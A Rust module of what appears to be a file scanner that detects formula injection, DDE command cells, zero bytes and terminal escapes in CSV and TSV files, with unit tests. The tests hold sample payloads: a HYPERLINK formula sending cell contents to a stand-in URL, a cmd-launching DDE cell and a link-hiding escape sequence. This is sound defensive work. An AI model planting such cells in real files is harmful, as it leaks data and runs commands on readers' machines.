//! CSV and TSV: cells that a spreadsheet program would run as formulas.

use bytes::Bytes;
use memchr::{memchr, memchr3};

use crate::{
    finding::{Confidence, Finding, Place, Rule, RuleText, Severity, Stop},
    format::{Format, Out, Subject, text},
    limits::{Budget, Resource},
    reader::count,
    view::TextView,
};

mod defused;
mod formula;

use formula::Formula;

pub(crate) const FORMAT: Format = Format {
    name: "csv",
    labels: &["csv", "tsv"],
    inspect,
    clean: Some(defused::clean),
    rules: &[&FORMULA, &DDE, &NUL, &ESCAPE],
};

static FORMULA: Rule = Rule::built_in(
    "csv/formula",
    "script.formula",
    Severity::Medium,
    Confidence::High,
    RuleText {
        title: "A cell that a spreadsheet program computes",
        why: "Opened in a spreadsheet program the cell is no data but a formula: it can change what is shown, and send the other cells elsewhere.",
        remedy: "Put an apostrophe before the cell, or import the file with all columns as text.",
    },
);

static DDE: Rule = Rule::built_in(
    "csv/dde",
    "macro.dde",
    Severity::Medium,
    Confidence::High,
    RuleText {
        title: "A cell that asks another program to run something",
        why: "Opened in a spreadsheet program the cell starts a command on the reader's machine, after one question that most people confirm.",
        remedy: "Put an apostrophe before the cell, or do not deliver the file.",
    },
);

static NUL: Rule = Rule::built_in(
    "csv/nul",
    "malformed.structure",
    Severity::Medium,
    Confidence::High,
    RuleText {
        title: "Zero bytes in a table",
        why: "Some programs end the cell or the table there, others go on: two readers see two tables.",
        remedy: "Write the table again without them.",
    },
);

static ESCAPE: Rule = Rule::built_in(
    "csv/terminal-escape",
    "terminal.control",
    Severity::Medium,
    Confidence::High,
    RuleText {
        title: "An order to a terminal inside of a table",
        why: "Shown in a terminal the cell writes elsewhere, sets a title or hides an address behind other words; a table has no use for it.",
        remedy: "Remove the escape sequences.",
    },
);

/// Cells listed by themselves; the rest of a flood is one number.
const LISTED: u64 = 100;
/// Bytes of the beginning by which the separator is told.
const PREFIX: usize = 8 * 1024;
/// What separates cells somewhere.
const SEPARATORS: [u8; 4] = [b',', b';', b'\t', b'|'];
/// Bytes walked in one step.
const BYTES_PER_STEP: u64 = 2;

fn inspect(subject: &Subject<'_>, out: &mut Out<'_>, budget: &mut Budget) -> Result<(), Stop> {
    text::inspect(subject, out, budget)?;
    let Some(view) = out.texts.last().cloned() else { return Ok(()) };
    budget.spend(Resource::Steps, count(view.text.len()).div_ceil(BYTES_PER_STEP))?;
    if let Some(at) = memchr(0, &view.text) {
        let at = count(at);
        out.find(placed(Finding::built_in(&NUL), &view, at, at.saturating_add(1)));
    }
    if let Some(at) = escape(&view.text) {
        let at = count(at);
        out.find(placed(Finding::built_in(&ESCAPE), &view, at, at.saturating_add(2)));
    }
    // A carriage return within a cell moves no cursor: to a spreadsheet it is a blank, and what is behind it counts.
    if let Some(plain) = without_returns(&view.text)
        && let Some(read) = out.texts.last_mut()
    {
        read.text = plain;
    }
    let separator = separator(subject.kind.label, &view.text);
    let (mut formulas, mut commands) = (0_u64, 0_u64);
    for cell in Cells::of(&view.text, separator) {
        let Some(found) = formula::judge(cell.value, separator) else { continue };
        let (rule, counted, message) = match found {
            Formula::Computed => (&FORMULA, &mut formulas, "the cell is a formula"),
            Formula::Command => (&DDE, &mut commands, "the cell names a program and what it should do"),
        };
        *counted = counted.saturating_add(1);
        if *counted <= LISTED {
            let place = Place::default().number("row", cell.row).number("column", cell.column);
            let end = cell.start.saturating_add(count(cell.value.len()));
            let finding = Finding::built_in(rule).place(place).message(message);
            out.find(placed(finding, &view, cell.start, end));
        }
    }
    for (rule, counted) in [(&FORMULA, formulas), (&DDE, commands)] {
        if let Some(more @ 1..) = counted.checked_sub(LISTED) {
            out.find(Finding::built_in(rule).message(format!("{more} more cells like the {LISTED} listed")));
        }
    }
    Ok(())
}

/// The finding where the text stands in the artifact.
fn placed(finding: Finding, view: &TextView, start: u64, end: u64) -> Finding {
    match view.map.as_ref().map(|map| map.span(start, end)) {
        Some(span) => finding.at(span.start, span.end),
        None => finding,
    }
}

/// The separator that gives most lines of the beginning the same number of cells, and more than one.
fn separator(label: &str, text: &[u8]) -> u8 {
    if label == "tsv" {
        return b'\t';
    }
    let prefix = text.get(..PREFIX).unwrap_or(text);
    let score = |separator: u8| {
        let counts = prefix.split(|byte| *byte == b'\n').filter(|line| !line.trim_ascii().is_empty()).map(|line| {
            let mut is_quoted = false;
            let is_free = |byte: &&u8| {
                is_quoted ^= **byte == b'"';
                **byte == separator && !is_quoted
            };
            line.iter().filter(is_free).count()
        });
        let counts: Vec<usize> = counts.collect();
        let first = counts.first().copied().unwrap_or(0);
        let alike = counts.iter().filter(|cells| **cells == first).count();
        if first == 0 { 0 } else { alike }
    };
    // The first of the best: a comma when nothing tells.
    let mut best = (b',', 0);
    for candidate in SEPARATORS {
        let alike = score(candidate);
        if alike > best.1 {
            best = (candidate, alike);
        }
    }
    best.0
}

/// Where an escape sequence begins that is more than a colour.
fn escape(text: &[u8]) -> Option<usize> {
    memchr::memchr_iter(0x1b, text).find(|at| !is_colour(text.get(at.saturating_add(1)..).unwrap_or_default()))
}

/// Whether what stands behind an escape only sets a colour.
fn is_colour(rest: &[u8]) -> bool {
    let of_parameters = |byte: &&u8| byte.is_ascii_digit() || matches!(byte, b';' | b':');
    let parameters = rest.iter().skip(1).take(32).take_while(of_parameters).count();
    rest.first() == Some(&b'[') && rest.get(parameters.saturating_add(1)) == Some(&b'm')
}

/// The text with a blank for each carriage return that ends no line; `None` where there is none.
fn without_returns(text: &[u8]) -> Option<Bytes> {
    let is_lone = |at: &usize| {
        // Behind a quote or a separator a cell begins; old tables end their lines with it.
        text.get(at.saturating_add(1)).is_some_and(|next| *next != b'\n')
            && at
                .checked_sub(1)
                .and_then(|before| text.get(before))
                .is_some_and(|before| matches!(before, b'"' | b',' | b';' | b'\t'))
    };
    memchr::memchr_iter(b'\r', text).find(is_lone)?;
    let mut copy = text.to_vec();
    for at in memchr::memchr_iter(b'\r', text).filter(is_lone) {
        if let Some(byte) = copy.get_mut(at) {
            *byte = b' ';
        }
    }
    Some(copy.into())
}

/// One cell, unquoted but not unescaped.
struct Cell<'a> {
    value: &'a [u8],
    /// Offset of the value in the text.
    start: u64,
    /// Counted from one.
    row: u64,
    /// Counted from one.
    column: u64,
}

/// The cells of a table, RFC 4180 as spreadsheet programs read it.
struct Cells<'a> {
    text: &'a [u8],
    separator: u8,
    at: usize,
    row: u64,
    column: u64,
    /// A quote without an end was met: from there on quotes are letters, or the rest would be one unseen cell.
    are_quotes_letters: bool,
    is_done: bool,
}

impl<'a> Cells<'a> {
    fn of(text: &'a [u8], separator: u8) -> Self {
        Self { text, separator, at: 0, row: 1, column: 1, are_quotes_letters: false, is_done: false }
    }

    /// The end of a quoted cell whose value begins at `from`: the offset of its closing quote.
    fn closing(&self, from: usize) -> Option<usize> {
        let mut at = from;
        loop {
            let quote = at.checked_add(memchr(b'"', self.text.get(at..)?)?)?;
            let next = quote.checked_add(1)?;
            if self.text.get(next) != Some(&b'"') {
                return Some(quote);
            }
            at = next.checked_add(1)?;
        }
    }
}

impl<'a> Iterator for Cells<'a> {
    type Item = Cell<'a>;

    fn next(&mut self) -> Option<Cell<'a>> {
        if self.is_done {
            return None;
        }
        let (row, column) = (self.row, self.column);
        let mut start = self.at;
        let mut from = self.at;
        let mut value = None;
        if self.text.get(start) == Some(&b'"') && !self.are_quotes_letters {
            start = start.saturating_add(1);
            match self.closing(start) {
                Some(quote) => {
                    value = self.text.get(start..quote);
                    from = quote.saturating_add(1);
                }
                None => self.are_quotes_letters = true,
            }
        }
        let rest = self.text.get(from..).unwrap_or_default();
        let length = memchr3(self.separator, b'\n', b'\r', rest);
        let end = from.saturating_add(length.unwrap_or(rest.len()));
        let value = value.or_else(|| self.text.get(start..end)).unwrap_or_default();
        match self.text.get(end) {
            None => self.is_done = true,
            Some(byte) if *byte == self.separator => {
                self.column = self.column.saturating_add(1);
                self.at = end.saturating_add(1);
            }
            Some(byte) => {
                let is_pair = *byte == b'\r' && self.text.get(end.saturating_add(1)) == Some(&b'\n');
                self.at = end.saturating_add(if is_pair { 2 } else { 1 });
                (self.row, self.column) = (self.row.saturating_add(1), 1);
                self.is_done = self.at >= self.text.len();
            }
        }
        Some(Cell { value, start: count(start), row, column })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::format::testing::{Seen, look};

    fn seen(content: &str) -> Seen {
        look(&FORMAT, "csv", content.as_bytes())
    }

    #[test]
    fn a_formula_has_a_row_a_column_and_a_span() {
        let seen = seen("name,note\r\na,\"=HYPERLINK(\"\"http://x?\"\"&A1)\"\r\nb,ok\r\n");
        assert_eq!(seen.facts(), ["medium script.formula 14..42"]);
        assert_eq!(seen.findings[0].place, Place::default().number("row", 2).number("column", 2));
        assert_eq!(seen.texts.len(), 1, "and the whole is read as text");
    }

    #[test]
    fn separators_are_told_by_the_beginning() {
        for (content, column) in [("a,b\n1,=1+1\n", 2), ("a;b;c\n1,5;2;=1+1\n", 3), ("a|b\n1|=1+1\n", 2), ("=1+1\n", 1)]
        {
            let seen = seen(content);
            assert_eq!(
                seen.findings[0].place,
                Place::default().number("row", if column == 1 { 1 } else { 2 }).number("column", column),
                "{content}"
            );
        }
        assert_eq!(
            look(&FORMAT, "tsv", b"a\tb, c\n\t=1+1\n").findings[0].place,
            Place::default().number("row", 2).number("column", 2)
        );
    }

    #[test]
    fn a_quote_without_an_end_hides_nothing() {
        assert_eq!(seen("a,\"b\n=1+1\n").facts(), ["medium script.formula 5..9"]);
        assert_eq!(seen("\"=1+1").facts(), ["medium script.formula 1..5"]);
    }

    #[test]
    fn lines_inside_quotes_are_one_cell() {
        let seen = seen("a,\"x\n=1+1\"\n=2+2,b\n");
        assert_eq!(seen.findings.len(), 1);
        assert_eq!(seen.findings[0].place, Place::default().number("row", 2).number("column", 1));
    }

    #[test]
    fn decoded_text_keeps_its_offsets() {
        let bytes: Vec<u8> =
            [0xff, 0xfe].into_iter().chain("é,=cmd|'/C x'!A0\n".encode_utf16().flat_map(u16::to_le_bytes)).collect();
        assert_eq!(look(&FORMAT, "csv", &bytes).facts(), ["medium macro.dde 6..34"]);
        assert_eq!(look(&FORMAT, "csv", b"\xef\xbb\xbf=1+1,b\n").facts(), ["medium script.formula 3..7"]);
    }

    #[test]
    fn a_flood_is_listed_and_counted() {
        let seen = seen(&"=1+1\n".repeat(5000));
        assert_eq!(seen.findings.len(), 101);
        assert!(seen.findings.iter().any(|finding| finding.message.starts_with("4900 more")));
    }

    #[test]
    fn orders_to_terminals() {
        assert_eq!(seen("a,b\n1,\x1b]8;;http://x\x07y\n").facts(), ["medium terminal.control 6..8"]);
        assert_eq!(seen("a,b\n1,\x1b[31mred\x1b[0m\n").facts(), [""; 0]);
        let seen = seen("a,b\n1,\"\r=1+1\"\n");
        assert_eq!(seen.texts(), ["a,b\n1,\" =1+1\"\n"]);
        assert_eq!(seen.findings.len(), 1);
    }

    #[test]
    fn zero_bytes() {
        assert_eq!(seen("a,b\n1,\0\n").facts(), ["medium malformed.structure 6..7"]);
    }
}
